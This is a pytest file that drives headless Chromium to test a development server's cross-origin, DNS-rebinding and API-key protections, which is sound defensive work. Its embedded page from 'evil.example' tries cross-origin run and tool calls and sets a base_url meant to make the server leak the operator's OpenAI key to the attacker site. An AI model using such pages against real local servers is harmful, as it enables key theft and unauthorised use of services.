"""A page of another origin against the development server, in a real browser: Chromium, without a window."""

import json
import queue
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from tests.studio.dev_server import DevServer, dev_server, free_port
from tests.tools.ollama_server import Quiet

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
ALONE = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync")
NAMES = "--host-resolver-rules=MAP *.example 127.0.0.1"
"""Every name of these tests leads to this machine, as a name of an attacker's may."""
QUESTION = "Who is the inventor of the ballpoint pen?"
PAGE = """<!doctype html><meta charset="utf-8"><script>
const server = "%(server)s", secret = "%(address)s";
const run = context => JSON.stringify({assistant_id: "naive", input: {question: "%(question)s"}, context});
const call = {jsonrpc: "2.0", id: 1, method: "tools/call", params: {name: "naive", arguments: {question: "%(question)s"}}};
const post = (path, body, kind, more = {}) => fetch(server + path, {method: "POST", body, headers: {"content-type": kind}, ...more});
const local = {model: "extractive"}, theirs = {model: "openai:x", base_url: secret};
const both = {"content-type": "application/json", accept: "application/json"};
const socket = () => new Promise((well, ill) => {
  const one = new WebSocket(server.replace("http", "ws") + "/threads/00000000-0000-4000-8000-000000000000/stream/events");
  one.onopen = () => well(new Response("open"));
  one.onerror = ill;
});
const attempts = {
  simple: () => post("/runs/wait", run(local), "text/plain"),
  untyped: () => fetch(server + "/runs/wait", {method: "POST", body: new Blob([run(local)])}),
  blind: () => post("/runs/wait", run(theirs), "text/plain", {mode: "no-cors"}),
  asked: () => post("/runs/wait", run(local), "application/json"),
  key: () => post("/runs/wait", run(theirs), "application/json"),
  tool: () => fetch(server + "/mcp", {method: "POST", body: JSON.stringify(call), headers: both}),
  blindTool: () => post("/mcp", JSON.stringify(call), "text/plain", {mode: "no-cors"}),
  threads: () => post("/threads/search", "{}", "application/json"),
  info: () => fetch(server + "/info"),
  socket,
};
(async () => {
  const told = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { const said = await attempt(); told[name] = said.type === "opaque" ? "opaque" : said.status + " " + await said.text(); }
    catch (error) { told[name] = "blocked"; }
  }
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed (Debian's package chromium)")


class Site:
    """A web site on this machine: it gives the page under every name, and keeps what it is sent."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.page = ""
        self.told: queue.Queue[dict[str, str]] = queue.Queue()
        self.heard: list[str] = []

    def handler(self) -> type[BaseHTTPRequestHandler]:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.say(site.page)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"] or 0)).decode()
                if self.path == "/told":
                    site.told.put(json.loads(body))
                else:
                    site.heard.append(f"{self.path}\n{self.headers}")
                self.say("")

            def say(self, text: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(text.encode())))
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, format: str, *args: object) -> None:
                pass

        return Handler


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    port = free_port()
    made = Site(port)
    listening = Quiet(("127.0.0.1", port), made.handler())
    threading.Thread(target=listening.serve_forever, kwargs={"poll_interval": 0.005}, daemon=True).start()
    yield made
    listening.shutdown()
    listening.server_close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, site: Site) -> Iterator[DevServer]:
    """A server with a key, to which one site besides its own machine's pages was let in."""
    friend = f"http://friend.example:{site.port}"
    folder = tmp_path_factory.mktemp("server")
    with dev_server(folder, None, "--allow-origin", friend, OPENAI_API_KEY="sk-the-operators-own-key") as running:
        site.page = PAGE % {"server": running.url, "address": f"http://127.0.0.1:{site.port}/v1", "question": QUESTION}
        yield running


@contextmanager
def browsing(folder: Path, *arguments: str, **how: Any) -> Iterator["subprocess.Popen[bytes]"]:
    command = [str(CHROMIUM), *ALONE, NAMES, f"--user-data-dir={folder}", *arguments]
    with subprocess.Popen(command, stderr=subprocess.DEVNULL, **how) as browser:
        try:
            yield browser
        finally:
            browser.kill()


def visited(site: Site, name: str, folder: Path) -> dict[str, str]:
    """Open the page under a name; give what each of its attempts came to."""
    with browsing(folder, f"http://{name}:{site.port}/", stdout=subprocess.DEVNULL):
        return site.told.get(timeout=180)


def test_a_foreign_page_reads_nothing_runs_nothing_and_gets_no_key(server: DevServer, site: Site, tmp_path: Path) -> None:
    told = visited(site, "evil.example", tmp_path)
    assert {name: said for name, said in told.items() if said not in ("blocked", "opaque")} == {}
    assert {name for name, said in told.items() if said == "opaque"} == {"blind", "blindTool"}
    assert site.heard == []


@pytest.mark.parametrize("name", ["friend.example", "localhost"])
def test_the_same_page_from_an_origin_on_the_list_is_answered(server: DevServer, site: Site, tmp_path: Path, name: str) -> None:
    told = visited(site, name, tmp_path)
    assert told["asked"].startswith("200")
    assert "László Bíró" in told["asked"]
    assert "László Bíró" in told["tool"]
    assert told["threads"].startswith("200")
    assert (told["simple"], told["untyped"]) == ("blocked", "blocked"), "what needs no preflight is read from no page"
    assert "is not allowed for runs of this server" in told["key"]
    assert site.heard == [], "the key goes to no address that a page names"


def test_a_foreign_name_that_leads_to_the_server_shows_nothing(server: DevServer, tmp_path: Path) -> None:
    port = server.url.rpartition(":")[2]
    with browsing(tmp_path, "--dump-dom", f"http://evil.example:{port}/info", stdout=subprocess.PIPE) as browser:
        shown = browser.communicate(timeout=120)[0].decode()
    assert f"host name 'http://evil.example:{port}'" in shown
